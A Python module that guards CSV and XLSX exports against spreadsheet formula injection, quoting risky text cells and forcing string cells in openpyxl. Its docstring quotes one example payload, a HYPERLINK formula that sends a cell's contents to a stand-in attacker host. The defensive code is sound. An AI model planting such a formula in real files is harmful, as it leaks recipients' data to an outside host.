"""Cells a spreadsheet program shows and never runs, for every CSV and XLSX we hand out.

A cell of text starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
before one) is a formula to Excel and LibreOffice: a provider or service named
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would run when the bureau opens the
download (CSV or formula injection). So:

- CSV (``csv_text``): such text gets a leading single quote, as OWASP advises; numbers
  (``-6.00`` as Decimal, int or float) are not text and stay as they are;
- XLSX (``xlsx_cell``): text is a string cell whatever it starts with (openpyxl would store
  a str starting with ``=`` as a formula), shown unchanged.

A bank's payment file is not a spreadsheet for people: ``vouchers.settlement.bank_files``
keeps payee names exactly as they are (documented there).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value) -> str:
    """A CSV field: empty for None, ISO 8601 for dates and times, text neutralised."""
    if value is None:
        return ""
    if hasattr(value, "isoformat"):
        return value.isoformat()
    if isinstance(value, str):
        return "'" + value if value.startswith(FORMULA_STARTS) else value
    return str(value)


def xlsx_cell(worksheet, value):
    """A value for openpyxl's write-only ``worksheet.append``: text as a string cell (never
    a formula); an aware time as ISO 8601 text (Excel has no time zones: the offset stays
    visible); anything else as it is."""
    if isinstance(value, str):
        from openpyxl.cell import WriteOnlyCell

        text = WriteOnlyCell(worksheet, value=value)
        text.data_type = "s"  # never a formula
        return text
    if hasattr(value, "tzinfo") and value.tzinfo is not None:
        return value.isoformat()
    return value
